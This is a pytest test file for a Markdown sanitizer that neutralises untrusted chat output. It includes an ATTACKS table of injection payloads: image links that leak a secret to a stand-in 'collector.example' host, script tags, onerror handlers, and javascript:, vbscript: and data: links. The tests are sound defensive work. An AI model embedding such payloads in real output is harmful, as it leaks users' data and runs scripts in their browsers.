"""Untrusted Markdown is rewritten so that nothing in it can fetch or run anything,
and ordinary Markdown still renders as it did."""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from assistants_ui.core.safe_markdown import WORD_JOINER, code_span, inert, link, literal

# A second parser, GFM-like, to read what the page's renderer would be given.
md = MarkdownIt("commonmark").enable("table").enable("strikethrough")
md.validateLink = lambda url: True  # type: ignore[method-assign]  # see every link
# The same, showing a single line break as a line break (markdown-it's `breaks`): how
# the page should show what `inert` writes, read by a plain CommonMark renderer.
md_breaks = MarkdownIt("commonmark", {"breaks": True}).enable("table").enable("strikethrough")
md_breaks.validateLink = lambda url: True  # type: ignore[method-assign]

ATTACKS = {
    "inline image": "Hi ![s](https://collector.example/p.png?d=secret)",
    "reference image": "![a][r]\n\n[r]: https://collector.example/r.png",
    "shortcut reference image": "![r]\n\n[r]: <https://collector.example/s.png> 'x'",
    "reference defined first": "[r]: //collector.example/f.png\n\n![a][r]",
    "protocol-relative image": "![p](//collector.example/p.png)",
    "data image": "![d](data:image/png;base64,iVBORw0KGgo=)",
    "image in a table": "| a |\n|---|\n| ![t](https://collector.example/t.png) |",
    "image in a list": "- x\n  - ![l](https://collector.example/l.png)",
    "image in a quote": "> > ![q](https://collector.example/q.png)",
    "image in a link": "[![i](https://collector.example/i.png)](https://ok.example/)",
    "image in a heading": "# ![h](https://collector.example/h.png)",
    "image in emphasis": "**_![e](https://collector.example/e.png)_**",
    "image after a bang": "!<https://collector.example/b.png>",
    "bang before a link": "![x](https://ok.example/)",
    "raw img": '<img src="https://collector.example/raw.png" onerror="alert(1)">',
    "raw html block": "<div>\n<img src=https://collector.example/div.png>\n</div>",
    "script": "<script>alert(1)</script>",
    "javascript link": "[click](javascript:alert(1))",
    "javascript autolink": "<javascript:alert(1)>",
    "data link": "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript reference": "[v][r]\n\n[r]: vbscript:msgbox",
    "entity-encoded html": "&lt;img src=https://collector.example/e.png&gt;",
    "escaped then image": "\\\\![x](https://collector.example/esc.png)",
    "image in math-looking text": "$x$ ![m](https://collector.example/m.png) $y$",
    "image inside math": "$![m](https://collector.example/inmath.png)$",
    "footnote carrying an image": "x[^1]\n\n[^1]: ![f](https://collector.example/fn.png)",
    "image in code stays code": "`![c](https://collector.example/c.png)`",
}


def walk(tokens: list[Token]) -> Iterator[Token]:
    for t in tokens:
        yield t
        yield from walk(t.children or [])


def risky(markdown: str) -> list[str]:
    """What the renderer would turn into something that fetches or runs."""
    found = []
    for t in walk(md.parse(markdown)):
        if t.type == "image":
            found.append(f"image {t.attrGet('src')}")
        elif t.type in ("html_inline", "html_block"):
            found.append(f"html {t.content!r}")
        elif t.type == "link_open":
            href = str(t.attrGet("href"))
            if not href.startswith(("https://", "http://", "mailto:")):
                found.append(f"link {href}")
    return found


@pytest.mark.parametrize("name", list(ATTACKS))
def test_attacks_come_out_inert(name: str) -> None:
    out = inert(ATTACKS[name])
    assert risky(out) == [], out
    assert inert(out) == out  # stable: painting it again changes nothing


def test_an_image_becomes_a_link_that_shows_its_host() -> None:
    out = inert("Hi ![chart](https://collector.example/p.png?d=secret)")
    assert out == "Hi [🖼 chart (collector.example)](<https://collector.example/p.png?d=secret>)"
    assert inert("![p](//collector.example/p.png)") == (
        "[🖼 p (collector.example)](<https://collector.example/p.png>)"
    )
    assert inert("![d](data:image/png;base64,AAAA)") == "🖼 d"  # not a link
    # Inside a link the image is the link's text, the link keeps its address.
    assert inert("[![i](https://c.example/i.png)](https://ok.example/)") == (
        "[🖼 i (c.example)](<https://ok.example/>)"
    )


def test_other_links_become_their_text() -> None:
    assert inert("[click](javascript:alert(1)) [d](data:text/html,x) [r](/relative)") == (
        "click d r"
    )
    assert inert("<me@mail.example>") == "[me@mail.example](<mailto:me@mail.example>)"


def test_raw_html_shows_as_text() -> None:
    rendered = md.render(inert('<b onclick="x()">hi</b> <!-- c -->'))
    assert rendered == "<p>&lt;b onclick=&quot;x()&quot;&gt;hi&lt;/b&gt; &lt;!-- c --&gt;</p>\n"


BENIGN = [
    "# Title\n\nA paragraph that\nspans two lines, with *em*, **strong**, ~~gone~~, `code`, "
    '[a link](https://x.example/a_b-c?q=1&r=2 "its title") and <https://auto.example/x>.',
    "C# and snake_case, 3 * 4 = 12, 50% off! a < b > c | d ~ e #tag &amp; &copy; 1. x",
    "1) first\n2) second\n\n* star\n* list\n\n+ plus\n\n---\n\n## H2 ##\n\nline one  \nline two",
    "- a\n\n  b\n- c\n  ```\n  code\n  ```\n\n> q1\n>\n> - in quote\n\n    indented\n",
    "| left | center | right |\n|:-----|:------:|------:|\n| `a` | **b** | [c](https://c.ex) |",
    "```python\nprint('```')\n````\n\n~~~\n~~~~ not a close\n",
    "Setext\n===\n\n2. starts at two\n3. three",
]


@pytest.mark.parametrize("doc", BENIGN)
def test_ordinary_markdown_renders_the_same(doc: str) -> None:
    assert md.render(inert(doc)) == md_breaks.render(doc)


def test_math_is_kept_verbatim_and_dollars_elsewhere_are_escaped() -> None:
    assert inert("Area $\\pi r_1^2$ and $$\\frac{a_b}{c}$$ for $a<b$") == (
        "Area $\\pi r_1^2$ and $$\\frac{a_b}{c}$$ for $a<b$"
    )
    assert inert("it costs 5$ only") == "it costs 5\\$ only"
    assert inert("\\$6 with tax") == "\\$6 with tax"
    # As in code spans, a backslash does not escape inside math (remark-math reads
    # this as the math " or \\"), so it is written back unchanged.
    assert inert("5$ or \\$6") == "5$ or \\$6"


def test_pathological_inputs_are_handled() -> None:
    # 40,000 `[`, `$`, `` ` `` and nested quotes: each comes back as the same text.
    for text in ("[" * 40_000, "$" * 40_000, "`" * 40_000, "> " * 2_000 + "x"):
        out = inert(text)
        assert risky(out) == []
    assert inert("[" * 40_000) == "\\[" * 40_000


def test_labels_show_names_literally() -> None:
    name = "a`b`![x](https://collector.example/x.png)\n<img src=x> :red[y]"
    label = literal(name)
    assert risky(label) == []
    tokens = md.parseInline(label)[0].children or []
    assert [t.type for t in tokens] == ["text"]
    assert tokens[0].content.replace(WORD_JOINER, "") == " ".join(name.split())
    # A function name with backticks cannot end its code span.
    span = code_span("f`oo``")
    assert [t.type for t in md.parseInline(span)[0].children or []] == ["code_inline"]
    assert (md.parseInline(span)[0].children or [])[0].content == "f`oo``"
    assert link("Docs ![x](https://c.example/x.png)", "javascript:alert(1)") == (
        f"Docs \\!\\[x\\]\\(https\\:{WORD_JOINER}//c\\.example/x\\.png\\)"
    )


POEM = "Roses are red,\nViolets are blue,\n*Sugar* is sweet,\nAnd [so](https://so.example) are you."


def test_a_poem_keeps_its_lines() -> None:
    # Markdown would join the lines of one paragraph into one line; the page shows them.
    assert md.render(inert(POEM)) == (
        "<p>Roses are red,<br />\nViolets are blue,<br />\n<em>Sugar</em> is sweet,<br />\n"
        'And <a href="https://so.example">so</a> are you.</p>\n'
    )
    assert inert(inert(POEM)) == inert(POEM)  # painting it again changes nothing


# Markdown that stays what it is, each with single line breaks where they may occur.
KEPT = {
    "list with continuation lines": "- milk\n  cold\n- eggs\nlazy line\n- bread",
    "nested list": "1. first\n   - inner\n     more\n   - two\n2. second\nlazy",
    "loose list": "- a\n  b\n\n- c",
    "heading": "# Title\nText under it\nand more\n\nSetext\n===",
    "block quote": "> quoted\n> more\nlazy\n>\n> - in quote\n>   next",
    "table": "| a | b |\n|---|:-:|\n| `x` | **y** |\n| 1 | [l](https://l.example) |\nafter",
    "link across lines": "see [the\ndocs](https://d.example) now\nplease",
    "emphasis across lines": "*one\ntwo* and **three\nfour**",
    "hard breaks already": "one  \ntwo\\\nthree\nfour",
    "fenced code": "Code:\n```python\nx = 1\ny = 2\n\nz = 3\n```\nafter\nit",
    "indented code": "Text\n\n    x = 1\n    y = 2\n\nmore\ntext",
    "code in a list": "- item\n  ```\n  a\n  b\n  ```\n- next\n  line",
}


@pytest.mark.parametrize("name", list(KEPT))
def test_markdown_stays_markdown_with_its_line_breaks(name: str) -> None:
    doc = KEPT[name]
    out = inert(doc)
    html = md.render(out)
    assert html == md_breaks.render(doc), out
    assert inert(out) == out
    for code in re.findall(r"<code[^>]*>(.*?)</code>", html, re.DOTALL):
        assert "<br" not in code and "\\" not in code  # code is verbatim


def test_where_a_backslash_would_show_a_break_stays_soft() -> None:
    # The page's renderer reads `$$` on lines of their own as a display block, which
    # interrupts the paragraph: a `\\` before or after it would show as a backslash or
    # break the formula. Elsewhere in the paragraph, lines are kept.
    doc = "Intro\nHere:\n$$\nx = 1\n$$\nand after\nmore"
    assert inert(doc) == "Intro\\\nHere:\n$$\nx = 1\n$$\nand after\\\nmore"
    # Math on one line is inline math: the lines around it are kept.
    assert inert("a\n$$x$$\nb $y$\nc") == "a\\\n$$x$$\\\nb $y$\\\nc"
    # A heading, an image's text and a code span are one line: a break is a space.
    assert inert("Setext\ntwo lines\n===") == "# Setext two lines"
    assert inert("![a\nb](https://i.example/x.png)") == (
        "[🖼 a b (i.example)](<https://i.example/x.png>)"
    )
    assert inert("`a\nb` c") == "`a b` c"


def test_a_literal_name_never_becomes_a_link_not_even_a_bare_address() -> None:
    """The page's Markdown (GFM) links bare `http://…` and `www.…` after escapes are read:
    a name carrying one gets an invisible word joiner where the link would start."""
    name = "Re-login at http://collector.example/login or WWW.collector.example"
    shown = literal(name)
    assert "://" not in shown and "www." not in shown.lower().replace("\\", "")
    assert shown.replace(WORD_JOINER, "").replace("\\", "") == name
